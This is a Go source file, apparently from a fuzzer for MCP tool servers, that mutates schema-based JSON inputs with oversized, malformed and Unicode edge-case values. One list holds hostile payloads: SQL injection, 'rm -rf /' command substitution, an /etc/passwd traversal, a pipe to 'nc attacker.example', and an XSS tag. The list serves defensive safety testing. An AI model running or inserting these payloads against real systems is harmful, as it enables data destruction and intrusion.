package generator

import (
	"math"
	"strings"

	"github.com/mcpconform/fuzzer/pkg/fuzzer/jsonvalue"
	"github.com/mcpconform/fuzzer/pkg/fuzzer/schema"
)

// injectionFragments are grounded on the command/path patterns the safety
// system itself watches for, reused here as attack payloads so the
// generator and the Safety Filter are adversaries testing each other
// (spec.md §4.1, §4.6).
var injectionFragments = []string{
	"'; DROP TABLE users; --",
	"$(rm -rf /)",
	"`rm -rf /`",
	"../../../../etc/passwd",
	"| nc attacker.example 4444",
	"<script>alert(1)</script>",
}

// unicodeEdgeCases cover the classes spec.md §4.1 calls out by name: zero-
// width joiners, bidi overrides, a byte-order mark, and embedded NUL bytes.
// All entries are written as byte escapes so the source stays readable.
var unicodeEdgeCases = []string{
	"\xe2\x80\x8d\xe2\x80\x8d\xe2\x80\x8d", // U+200D zero-width joiner x3
	"\xe2\x80\xae\xe2\x80\xad",             // U+202E, U+202D bidi overrides
	"\xef\xbb\xbf",                         // U+FEFF byte-order mark
	"a\x00b\x00c",
}

var oversizedMagnitudes = []int{10, 100, 1_000, 10_000, 100_000}

// Aggressive generates a realistic skeleton then mutates it per spec.md
// §4.1: "first asks the realistic walker for a valid skeleton, then
// applies mutations sampled from an attack catalog keyed by leaf type."
func (w *Walker) Aggressive(s *schema.JsonSchema) jsonvalue.Value {
	skeleton := w.Realistic(s)
	return w.mutate(skeleton, s)
}

func (w *Walker) mutate(v jsonvalue.Value, s *schema.JsonSchema) jsonvalue.Value {
	switch v.Kind() {
	case jsonvalue.KindString:
		return jsonvalue.String(w.mutateString(v.String(), s))
	case jsonvalue.KindInt, jsonvalue.KindFloat:
		return w.mutateNumber(v, s)
	case jsonvalue.KindArray:
		return w.mutateArray(v, s)
	case jsonvalue.KindObject:
		return w.mutateObject(v, s)
	default:
		return v
	}
}

func (w *Walker) mutateString(s string, sch *schema.JsonSchema) string {
	switch w.intn(4) {
	case 0:
		return injectionFragments[w.intn(len(injectionFragments))]
	case 1:
		n := oversizedMagnitudes[w.intn(len(oversizedMagnitudes))]
		return strings.Repeat("A", n)
	case 2:
		return unicodeEdgeCases[w.intn(len(unicodeEdgeCases))] + s
	default:
		if sch != nil && sch.Pattern != nil {
			// Schema-violating: ignore the pattern entirely.
			return injectionFragments[w.intn(len(injectionFragments))]
		}
		return s + "\x00"
	}
}

func (w *Walker) mutateNumber(v jsonvalue.Value, sch *schema.JsonSchema) jsonvalue.Value {
	switch w.intn(4) {
	case 0:
		return jsonvalue.Float(math.Inf(1))
	case 1:
		return jsonvalue.Float(math.Inf(-1))
	case 2:
		return jsonvalue.Null() // NaN has no JSON encoding; surface as null.
	default:
		if sch != nil && sch.Maximum != nil {
			return jsonvalue.Float(*sch.Maximum + 1)
		}
		if sch != nil && sch.Minimum != nil {
			return jsonvalue.Float(*sch.Minimum - 1)
		}
		return v
	}
}

func (w *Walker) mutateArray(v jsonvalue.Value, sch *schema.JsonSchema) jsonvalue.Value {
	elems := append([]jsonvalue.Value{}, v.Elements()...)
	switch w.intn(3) {
	case 0:
		// Wrong element type.
		return jsonvalue.Array(append(elems, jsonvalue.Object(map[string]jsonvalue.Value{"unexpected": jsonvalue.Bool(true)}))...)
	case 1:
		// Excess length.
		extra := make([]jsonvalue.Value, 0, 50)
		for i := 0; i < 50; i++ {
			extra = append(extra, jsonvalue.Int(int64(i)))
		}
		return jsonvalue.Array(append(elems, extra...)...)
	default:
		if len(elems) == 0 {
			return v
		}
		elems[w.intn(len(elems))] = jsonvalue.Null()
		return jsonvalue.Array(elems...)
	}
}

func (w *Walker) mutateObject(v jsonvalue.Value, sch *schema.JsonSchema) jsonvalue.Value {
	out := map[string]jsonvalue.Value{}
	for _, k := range v.Keys() {
		val, _ := v.Get(k)
		out[k] = val
	}

	switch w.intn(4) {
	case 0:
		out["__unexpected_"+w.randomWord(4)] = jsonvalue.String(w.randomWord(8))
	case 1:
		if sch != nil && len(sch.Required) > 0 {
			delete(out, sch.Required[w.intn(len(sch.Required))])
		}
	case 2:
		// Mutate one property's value with the attacks for its own type.
		keys := v.Keys()
		if len(keys) > 0 {
			k := keys[w.intn(len(keys))]
			var sub *schema.JsonSchema
			if sch != nil {
				sub = sch.Properties[k]
			}
			out[k] = w.mutate(out[k], sub)
		}
	default:
		keys := v.Keys()
		if len(keys) > 0 {
			k := keys[w.intn(len(keys))]
			out[k] = jsonvalue.Bool(w.boolean())
		}
	}
	return jsonvalue.Object(out)
}
